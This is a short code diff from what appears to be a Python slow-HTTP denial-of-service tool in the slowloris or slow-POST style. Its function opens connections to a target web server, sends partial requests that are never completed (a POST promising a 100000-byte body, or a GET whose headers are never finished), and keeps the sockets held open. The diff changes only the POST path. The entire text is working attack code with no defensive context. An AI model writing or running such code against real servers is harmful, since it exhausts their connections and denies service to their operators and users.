@@ -8,7 +8,7 @@ held = []
 def one():
     wire = socket.create_connection((server, 80), 3)
     if how == "post":
-        wire.sendall(b"POST /f300 HTTP/1.1\r\nHost: www\r\nContent-Length: 100000\r\n\r\n")
+        wire.sendall(b"POST /post.up HTTP/1.1\r\nHost: www\r\nContent-Length: 100000\r\n\r\n")
     else:
         wire.sendall(b"GET /?%d HTTP/1.1\r\nHost: www\r\nUser-Agent: Mozilla/5.0\r\n" % random.randint(0, 9999))
     return wire
